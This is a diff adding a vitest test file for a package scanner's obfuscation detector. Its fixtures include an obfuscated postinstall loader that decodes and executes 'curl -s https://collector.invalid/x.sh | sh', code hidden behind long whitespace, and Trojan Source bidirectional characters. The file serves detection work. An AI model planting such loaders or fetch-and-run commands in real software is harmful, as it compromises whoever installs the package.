@@ -1,0 +1,56 @@
+import { describe, expect, test } from 'vitest';
+import { manifest, scanFiles } from '../test/helpers/analyze.js';
+
+const RULE = 'obfuscation';
+
+describe('obfuscation reports', () => {
+  test('obfuscator.io-style names and a string array; decoded strings reach the other rules', () => {
+    const names = Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`).join('\n');
+    const r = scanFiles({
+      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': [
+        "var _0x3f2a = ['Y2hpbGRfcHJvY2Vzcw==', 'ZXhlYw==', 'Y3VybCAtcyBodHRwczovL2NvbGxlY3Rvci5pbnZhbGlkL3guc2ggfCBzaA==', 'bG9n', 'aGVsbG8='];",
+        "(function (_0x1b2c, _0x4d5e) { var _0x9f = function (_0x7a) { while (--_0x7a) { _0x1b2c['push'](_0x1b2c['shift']()); } }; _0x9f(++_0x4d5e); }(_0x3f2a, 0x2));",
+        "var _0x51c1 = function (_0x2a) { _0x2a = _0x2a - 0x0; return Buffer.from(_0x3f2a[_0x2a], 'base64').toString(); };",
+        names,
+        "require(_0x51c1('0x3'))[_0x51c1('0x4')](_0x51c1('0x0'));",
+      ].join('\n'),
+    });
+    expect(r.of(RULE)[0]?.severity).toBe('high');
+    expect(r.of('process-exec')[0]?.message).toContain('curl -s https://collector.invalid/x.sh | sh');
+    expect(r.verdict).toBe('malicious');
+  });
+
+  test('code pushed off-screen by whitespace', () => {
+    const r = scanFiles({ 'index.js': `module.exports = 1;${' '.repeat(300)}require('child_process').exec('id');` });
+    expect(r.of(RULE).map((f) => f.message)).toContainEqual(expect.stringContaining('off-screen'));
+  });
+
+  test('Trojan Source bidirectional controls and zero-width characters', () => {
+    const r = scanFiles({ 'index.js': 'const isAdmin = false;\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nconst a\u200B = 1;' });
+    const msgs = r.of(RULE).map((f) => f.message).join('\n');
+    expect(msgs).toContain('Trojan Source');
+    expect(msgs).toContain('U+200B');
+  });
+
+  test('JSFuck and control-flow flattening', () => {
+    const jsfuck = scanFiles({ 'index.js': `module.exports = ${'[]+!+[]+(![]+[])'.repeat(40)};` });
+    expect(jsfuck.of(RULE)[0]?.message).toContain('JSFuck');
+    const flat = scanFiles({ 'index.js': "var order = '3|0|2|1|4'.split('|'), i = 0;\nwhile (!![]) { switch (order[i++]) { case '0': a(); continue; case '1': b(); continue; } break; }" });
+    expect(flat.of(RULE)[0]?.message).toContain('control-flow flattening');
+  });
+});
+
+describe('obfuscation stays quiet', () => {
+  test('minified code is not obfuscated', () => {
+    const min = 'var a=function(b){return b+1},c=function(d,e){for(var f=0;f<d.length;f++)e(d[f])};module.exports={a:a,c:c};'.repeat(50);
+    const r = scanFiles({ 'index.js': min });
+    expect(r.of(RULE)).toEqual([]);
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('aligned tables and escaped Unicode in strings are not hidden code', () => {
+    const r = scanFiles({ 'index.js': "const RTL = /[\\u202A-\\u202E]/;\nconst table = {\n  a:    1,\n  bb:   2,\n};\nmodule.exports = { RTL, table };" });
+    expect(r.of(RULE)).toEqual([]);
+  });
+});
